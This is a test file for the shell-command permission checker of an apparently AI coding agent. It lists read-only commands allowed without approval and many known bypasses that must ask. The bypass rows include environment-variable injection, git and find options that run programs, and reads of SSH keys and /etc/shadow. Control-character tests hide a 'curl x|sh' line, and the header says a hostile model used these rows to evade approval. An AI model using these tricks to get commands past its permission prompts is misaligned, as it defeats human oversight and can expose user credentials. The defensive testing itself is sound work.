// The read-only allow-list, one row per entry and one per known bypass. "Read-only" means the
// command runs without a question in the ask mode: this list is the boundary, so every row that a
// hostile model used to get through without a question is here as `asks`.
import { describe, expect, it } from 'vitest';
import { SessionGrants, decide, parseRules } from '../../src/session/permissions/index.js';

const HOME = '/home/u';
const CWD = '/home/u/proj';

const inAskMode = (command: string) =>
  decide('bash', { command }, { mode: 'ask', rules: parseRules({}, HOME), grants: new SessionGrants(), cwd: CWD, home: HOME }).kind;

/** documented read-only commands (README) and every entry of the allow-list: no question */
const READ_ONLY = [
  'ls',
  'ls -la src',
  'cat README.md',
  'head -n 5 a.txt',
  'tail -f log.txt',
  'wc -l src/*.ts',
  'stat a',
  'du -sh .',
  'nl a',
  'od -c a',
  'hexdump -C a',
  'strings a.bin',
  'md5sum a',
  'sha1sum a',
  'sha256sum a',
  'sha512sum a',
  'cksum a',
  'tac a',
  'rev a',
  'column -t a',
  'cmp a b',
  'diff -u a b',
  'realpath a',
  'readlink -f a',
  'cut -d, -f1 a',
  'cd src',
  'file a',
  'uniq a',
  'sort -u a',
  'sort -rn -k2 a',
  'tree -L 2',
  'less a',
  'more a',
  'pwd',
  'echo hi',
  "printf '%s\\n' a",
  'true',
  'false',
  'test -f a',
  '[ -f a ]',
  'whoami',
  'id',
  'uname -a',
  'which node',
  'whereis node',
  'type ls',
  'printenv HOME',
  'seq 3',
  'sleep 1',
  'nproc',
  'arch',
  'groups',
  'basename a/b',
  'dirname a/b',
  'date +%s',
  'hostname',
  'env',
  'command -v node',
  'grep -rn TODO .',
  'egrep x a',
  'fgrep x a',
  'rg -n foo src',
  'rg --files',
  'jq .name package.json',
  "find . -name '*.ts' -type f",
  'find src -newer a -print',
  'git',
  'git status',
  'git status --short',
  'git diff HEAD~1 -- src',
  'git diff --no-ext-diff',
  'git log --oneline -5',
  'git log -p --no-textconv',
  'git show HEAD:README.md',
  'git blame a',
  'git ls-files',
  'git ls-tree HEAD',
  'git rev-parse HEAD',
  'git describe --tags',
  'git shortlog -sn',
  'git cat-file -p HEAD',
  'git show-ref',
  'git merge-base a b',
  'git rev-list --count HEAD',
  'git whatchanged',
  'git grep -n foo',
  'git branch -a',
  'git tag -l',
  'git remote -v',
  'git stash list',
  'git reflog',
  'git config --get user.name',
  'git config --list',
  'git -C sub --no-pager log -3',
  'git -P log',
  // harmless variables
  'LC_ALL=C sort a',
  'env LC_ALL=C git status',
  'NO_COLOR=1 ls',
  // wrappers that only change how it runs
  'timeout 5 ls',
  'nohup cat a',
  'nice -n 5 ls',
  "bash -c 'ls && pwd'",
  'command ls',
];

/** the bypasses found (issue 22) and their relatives: each must ask */
const ASKS = [
  // env -S runs a command line
  'env -S "touch X"',
  'env --split-string="touch X"',
  // git grep -O opens the files in any program
  "git grep -O'touch X' add",
  'git grep --open-files-in-pager=touch add',
  'git grep -nO touch x',
  // environment assignments can make any command run another program
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch X' git status",
  'GIT_PAGER=evil git log',
  'LD_PRELOAD=./evil.so ls',
  'PAGER=evil git log',
  'EDITOR=evil git config --list',
  'env GIT_EXTERNAL_DIFF=evil git diff',
  'env LD_PRELOAD=./evil.so cat a',
  'LC_ALL=../../tmp/x ls',
  'PATH=.:$PATH; ls',
  'X=1',
  // git options that run programs, write, or point git at another config
  'git -c core.pager=evil log',
  'git -c alias.st=!evil st',
  'git --exec-path=. status',
  'git --config-env=core.pager=X log',
  'git --git-dir=evil status',
  'git --work-tree=/ status',
  'git diff --ext-diff',
  'git diff --textconv',
  'git diff --no-index /dev/null /home/u/.ssh/id_rsa',
  'git log --output=x',
  'git blame --contents /etc/shadow a',
  'git cat-file --filters HEAD:a',
  'git config --edit --list',
  'git config --get core.x --add y',
  'git remote show origin',
  'git reflog expire --all',
  // find actions
  'find . -exec touch {} ;',
  'find . -execdir sh -c x ;',
  'find . -ok rm {} ;',
  'find . -delete',
  'find . -fprint out',
  'find . -fprintf out %p',
  'find . -fls out',
  // options that write or run
  'sort --compress-program=evil a',
  'sort -o out a',
  'sort -uo out a',
  'sort --output=out a',
  'tar --to-command=evil -xf a.tar',
  'rg --pre ./evil foo',
  'rg --pre=./evil foo',
  "less '+!touch X' a",
  'less -o log a',
  'man -P evil ls',
  'tree -o out',
  'tree -R -H . ',
  'file -C -m magic',
  'uniq in out',
  'hostname evil',
  'date -s 2020-01-01',
  'printf -v PATH /tmp/evil',
  // xargs runs a command on words nobody saw
  'find . | xargs cat',
  'echo touch X | xargs',
  'echo /home/u/.ssh/id_rsa | xargs cat',
  // awk and friends run programs
  'awk \'BEGIN{system("touch X")}\'',
  "sed -n 'w out' a",
  'perl -e 1',
  'python3 -c 1',
  // not on the list
  'touch X',
  './ls',
  'sudo ls',
];

describe('read-only allow-list (the boundary for ask mode)', () => {
  for (const command of READ_ONLY) it(`runs without a question: ${command}`, () => expect(inAskMode(command)).toBe('allow'));
  for (const command of ASKS) it(`asks: ${command}`, () => expect(inAskMode(command)).toBe('ask'));
});

describe('what an allow rule or an earlier answer covers', () => {
  const ctx = (mode: 'ask' | 'auto-edit' | 'auto' | 'yolo', allow: string[] = [], grants = new SessionGrants()) => ({
    mode,
    rules: parseRules({ allow }, HOME),
    grants,
    cwd: CWD,
    home: HOME,
  });
  it('an allow rule for `git status` does not cover it run with GIT_CONFIG_* variables (boundary)', () => {
    const command = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch X' git status";
    expect(decide('bash', { command }, ctx('ask', ['bash(git status*)'])).kind).toBe('ask');
    const grants = new SessionGrants();
    grants.grantPrefix('git status');
    expect(decide('bash', { command }, ctx('ask', [], grants)).kind).toBe('ask');
    expect(decide('bash', { command: 'git status' }, ctx('ask', [], grants)).kind).toBe('allow');
  });
});

describe('a command with a control character always asks, but in yolo (boundary)', () => {
  const ctx = (mode: 'ask' | 'auto-edit' | 'auto' | 'yolo', allow: string[] = []) => ({
    mode,
    rules: parseRules({ allow }, HOME),
    grants: new SessionGrants(),
    cwd: CWD,
    home: HOME,
  });
  for (const command of ['touch PWNED; curl x|sh #\rnpm test', 'ls\b\b\btouch X', 'echo \x1b]0;title\x07', 'ls \x00']) {
    it(`${JSON.stringify(command)}`, () => {
      for (const mode of ['ask', 'auto-edit', 'auto'] as const) {
        const d = decide('bash', { command }, ctx(mode, ['bash']));
        expect(d.kind).toBe('ask');
        if (d.kind === 'ask') {
          expect(d.warning).toMatch(/control character|would not show/);
          expect(d.subject).toMatchObject({ type: 'bash', prefixes: [] });
        }
      }
      expect(decide('bash', { command }, ctx('yolo')).kind).toBe('allow');
    });
  }
  it('tabs and newlines are ordinary', () => {
    expect(decide('bash', { command: 'ls\t-la\npwd' }, ctx('ask')).kind).toBe('allow');
  });
});
